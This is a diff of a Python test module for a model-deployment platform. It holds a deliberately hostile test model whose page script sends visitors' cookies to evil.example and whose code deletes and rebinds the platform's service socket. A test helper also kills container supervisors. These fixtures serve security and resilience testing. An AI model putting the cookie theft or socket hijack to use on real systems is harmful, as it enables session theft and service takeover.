@@ -1,6 +1,9 @@
 """Small models without requirements, pushed and deployed on a real server in a second or two."""
 
 import io
+import json
+import os
+import signal
 import tempfile
 import zipfile
 from collections.abc import Iterator
@@ -50,13 +53,16 @@ HOSTILE = '''
 import os
 import socket
 import threading
+import time
 
 PAGE = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>"
 SOCKET = "/run/modelyard/box.sock"
 
 
 def call(what: str = "") -> str:
-    if what:
+    if what == "hold":
+        time.sleep(3)
+    elif what:
         os.unlink(SOCKET)
         listener = socket.socket(socket.AF_UNIX)
         listener.bind(SOCKET)
@@ -86,7 +92,7 @@ def answer(connection):
     )
     connection.close()
 '''
-DYING = '''
+DYING = """
 import os
 
 
@@ -97,7 +103,7 @@ def call(text: str = "") -> str:
 if os.environ.get("MODELYARD_SOCKET"):  # it passes its check and then never starts to serve
     print("this model will not start today", flush=True)
     os._exit(3)
-'''
+"""
 
 
 @dataclass(frozen=True)
@@ -142,6 +148,10 @@ class Yard:
         assert response.is_success, response.text
         return response
 
+    def change(self, name: str, **values: Any) -> None:
+        with self.server.client(self.token) as client:
+            client.patch(f"/api/v1/repos/{self.address(name)}", json=values).raise_for_status()
+
     def deployment(self, name: str) -> dict[str, Any]:
         return self.api("GET", name, "deployment").json()
 
@@ -167,9 +177,15 @@ def yard_on(server: Server) -> Yard:
     return Yard(server, username, token)
 
 
-def boxes(server: Server) -> list[Path]:
-    """The folders of the containers that answer, as engine ``local`` keeps them."""
-    return sorted((server.folder / "d" / "engine").rglob("box-*"))
+def boxes(server: Server, replica_id: str = "") -> list[Path]:
+    """The folders of the containers that answer, as engine ``local`` keeps them; or that of one replica."""
+    return sorted((server.folder / "d" / "engine" / "c").glob(f"box-{replica_id.replace('-', '')}*"))
+
+
+def kill_box(server: Server, replica_id: str) -> None:
+    """Kills a box's supervisor, and so the box, as a machine short of memory would."""
+    (folder,) = boxes(server, replica_id)
+    os.kill(json.loads((folder / "state.json").read_text())["supervisor"], signal.SIGKILL)
 
 
 def _archive(code: str) -> bytes:
